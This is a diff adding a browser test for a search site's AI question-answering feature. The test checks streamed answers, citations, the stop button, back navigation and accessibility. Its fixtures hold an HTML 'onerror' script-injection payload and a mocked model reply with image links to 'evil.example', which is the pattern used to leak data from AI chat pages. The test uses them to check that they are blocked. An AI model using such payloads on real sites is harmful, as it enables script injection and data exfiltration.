@@ -1,0 +1,118 @@
+import axe from 'axe-core';
+import { expect } from 'chai';
+import type { Browser, Page } from 'playwright-core';
+import { paths } from '../../server/paths.ts';
+import { startBrowser, withBrowser } from '../helpers/browser.ts';
+import { startChatServer, type ChatServer } from '../helpers/chat-server.ts';
+import { databaseKinds, openTestDatabase } from '../helpers/database.ts';
+import { startHub, type TestHub } from '../helpers/hub.ts';
+import { signInAs } from '../helpers/visitor.ts';
+import { waitFor } from '../helpers/wait.ts';
+import { addDocument } from '../index/passages.ts';
+
+const QUESTION = 'When does the first ferry to Skerry leave in winter?';
+
+withBrowser('asking in a browser', function () {
+  this.timeout(120_000);
+  let hub: TestHub;
+  let chat: ChatServer;
+  let browser: Browser;
+  let page: Page;
+  const faults: string[] = [];
+  const asked: string[] = [];
+
+  before(async () => {
+    chat = await startChatServer();
+    hub = await startHub({ env: chat.env, database: await openTestDatabase(databaseKinds.at(-1)) });
+    await addDocument(
+      hub.context.database,
+      hub.context.index,
+      hub.admin.id,
+      ['The first ferry to Skerry leaves at 07:40 in winter. <img src=x onerror=alert(1)> Dogs travel free.'],
+      { title: 'Timetable.md' },
+    );
+    browser = await startBrowser();
+    const visitor = await signInAs(hub.url, hub.admin.email);
+    const context = await browser.newContext();
+    await context.addCookies(
+      visitor
+        .cookies()
+        .split('; ')
+        .map((cookie) => {
+          const [name = '', ...value] = cookie.split('=');
+          return { name, value: value.join('='), url: hub.url };
+        }),
+    );
+    page = await context.newPage();
+    page.on('pageerror', (error) => faults.push(String(error)));
+    page.on('console', (message) => message.type() === 'error' && faults.push(message.text()));
+    page.on('request', (request) => asked.push(request.url()));
+  });
+  after(async () => {
+    await browser.close();
+    await hub.close();
+    await chat.close();
+  });
+  beforeEach(() => {
+    chat.requests.length = 0;
+    chat.reply = () =>
+      'The first ferry leaves at 07:40 in winter [1]. ![x](https://evil.example/a.png?d=1) <img src=//evil.example/b> is here [1]. Dogs travel free [1].';
+  });
+
+  it('shows the answer as it comes, with its sources in the end, and asks nobody else', async () => {
+    await page.goto(`${hub.url}${paths.search()}`);
+    await page.fill('#q', QUESTION);
+    chat.msPerWord = 40;
+    await page.getByRole('button', { name: 'Ask' }).click();
+    const text = page.locator('[data-ask-text]');
+    await waitFor('the first sentence', async () => (await text.textContent())?.includes('07:40'));
+    expect(await text.getAttribute('aria-live')).to.equal('polite');
+    expect(await page.getByRole('button', { name: 'Stop' }).isVisible()).to.equal(true);
+    await page.locator('.citation').first().waitFor();
+    expect(new URL(page.url()).searchParams.get('ask')).to.equal(QUESTION);
+    expect(await page.locator('[data-ask-said]').textContent()).to.match(/^Answer: \d sources?\.$/);
+    expect(await page.locator('.answer img, .answer script').count()).to.equal(0);
+    expect(await text.isVisible()).to.equal(false);
+
+    await page.locator('.cite').first().click();
+    expect(page.url()).to.match(/#source-1$/);
+    expect(await page.locator('.citation').count()).to.be.greaterThan(0);
+    await page.evaluate(axe.source);
+    const violations = await page.evaluate(async () => {
+      const { axe: run } = globalThis as unknown as { axe: typeof axe };
+      const found = await run.run({
+        runOnly: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa', 'best-practice'],
+      });
+      return found.violations.map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html).join(' | ')}`);
+    });
+    expect(violations).to.deep.equal([]);
+
+    await page.getByRole('link', { name: 'Read the passage' }).first().click();
+    await page.locator('.chunk:target').waitFor();
+    expect(asked.filter((url) => !url.startsWith(hub.url))).to.deep.equal([]);
+    expect(faults).to.deep.equal([]);
+  });
+
+  it('stops when it is told to, and leaves the model', async () => {
+    await page.goto(`${hub.url}${paths.search()}`);
+    await page.fill('#q', QUESTION);
+    chat.planned.push('stalls');
+    await page.getByRole('button', { name: 'Ask' }).click();
+    await waitFor('the request', () => chat.requests.length === 1);
+    await page.getByRole('button', { name: 'Stop' }).click();
+    await page.getByText('Stopped.').waitFor();
+    await waitFor('the model to be left', () => chat.requests[0]?.left === true);
+    expect(faults).to.deep.equal([]);
+  });
+
+  it('goes back to what was shown before', async () => {
+    chat.msPerWord = 0;
+    await page.goto(`${hub.url}${paths.search({ q: 'dogs' })}`);
+    await page.fill('#q', QUESTION);
+    await page.getByRole('button', { name: 'Ask' }).click();
+    await page.locator('.citation').first().waitFor();
+    await page.goBack();
+    await page.locator('.results').waitFor();
+    expect(await page.inputValue('#q')).to.equal('dogs');
+  });
+});
